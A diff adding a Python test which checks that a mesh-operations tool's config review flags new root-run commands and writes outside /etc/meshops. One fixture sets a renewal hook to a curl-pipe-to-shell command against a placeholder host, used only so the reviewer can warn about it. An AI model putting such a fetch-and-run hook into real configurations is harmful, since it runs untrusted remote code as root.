@@ -80,3 +80,51 @@ def test_a_root_key_type_change_warns_of_the_rotation_it_starts() -> None:
     assert _codes(before, after) == ["root-rotation"]
     (warning,) = review_warnings(mesh_of(before), mesh_of(after))
     assert "ecdsa-p256 -> ecdsa-p384" in warning.message and "three applies" in warning.message
+
+
+def test_new_or_changed_commands_and_paths_outside_etc_meshops_are_named() -> None:
+    """What hosts will run as root, and where they will write (issue 14)."""
+    from factories import proxy
+
+    from meshops.gitops.review import build_review
+    from meshops.report.review_json import review_to_dict
+    from meshops.report.review_markdown import render_markdown
+    from meshops.report.review_text import render_text
+
+    before = web_api_mesh()
+    after = copy.deepcopy(before)
+    web = after["identities"]["web"]
+    web["proxy"] = proxy("caddy", 8443, reload=["systemctl", "reload", "caddy"],
+                         config="/etc/caddy/conf.d/web.caddy")  # fmt: skip
+    web["on_renew"] = [["sh", "-c", "curl https://example.test | sh"]]
+    web["outputs"] = {"dir": "/etc/ssl/private"}
+    after["identities"]["admin"]["outputs"] = {"dir": "/etc/meshops/out/admin"}  # inside: quiet
+    warnings = review_warnings(mesh_of(before), mesh_of(after))
+    assert [(w.code, w.message) for w in warnings] == [
+        ("runs-command", "new proxy reload of identity 'web' runs `systemctl reload caddy` "
+                         "as root on node-1"),
+        ("runs-command", "new on_renew command of identity 'web' runs "
+                         "`sh -c 'curl https://example.test | sh'` as root on node-1"),
+        ("writes-outside-meshops", "new proxy.config of identity 'web' writes to "
+                                   "/etc/caddy/conf.d/web.caddy, outside /etc/meshops, as root "
+                                   "on node-1"),
+        ("writes-outside-meshops", "new outputs.dir of identity 'web' writes to "
+                                   "/etc/ssl/private, outside /etc/meshops, as root on node-1"),
+    ]  # fmt: skip
+    assert _codes(after, copy.deepcopy(after)) == []  # unchanged: nothing to say
+
+    changed = copy.deepcopy(after)
+    changed["identities"]["web"]["proxy"]["reload"] = ["pkill", "-HUP", "caddy"]
+    assert [w.message for w in review_warnings(mesh_of(after), mesh_of(changed))] == [
+        "changed proxy reload of identity 'web' runs `pkill -HUP caddy` as root on node-1"
+    ]
+
+    from gitops_helpers import snap
+
+    review = build_review(snap(before, "main"), snap(after))
+    markdown, text = render_markdown(review), render_text(review)
+    for needle in ("systemctl reload caddy", "/etc/ssl/private", "/etc/caddy/conf.d/web.caddy"):
+        assert needle in text
+        assert needle in markdown.replace("\\", "")
+    codes = [w["code"] for w in review_to_dict(review)["warnings"]]
+    assert codes.count("runs-command") == 2 and codes.count("writes-outside-meshops") == 2
